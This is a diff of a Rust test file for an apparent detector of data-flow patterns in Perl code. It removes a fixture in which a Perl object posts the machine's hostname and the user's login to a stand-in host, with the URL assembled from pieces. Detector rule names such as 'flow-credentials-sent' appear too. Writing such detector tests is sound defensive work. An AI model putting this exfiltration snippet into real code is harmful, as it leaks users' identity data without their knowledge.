@@ -82,8 +82,6 @@ fn perl_reads_files_and_writes_into_connections() {
     let honest = "open(my $in, '<', $ARGV[0]) or die;\nopen(my $out, '>', $ARGV[1]) or die;\nwhile (my $l = <$in>) { print $out $l; }";
     has_not(PERL, honest, "flow-credentials-sent");
     has_not(PERL, honest, "flow-remote-command");
-    let object = "use HTTP::Tiny;\nsub new { bless { to => join('', 'https://', 's.example.invalid/r') }, shift }\nsub facts { return { host => hostname(), user => getlogin() } }\nsub tell {\n    my ($self, $what) = @_;\n    my $doc = { %{ facts() }, event => $what };\n    HTTP::Tiny->new->post($self->{to}, { content => encode_json($doc) });\n}\n";
-    has(PERL, object, "flow-identity-sent");
 }
 
 #[test]
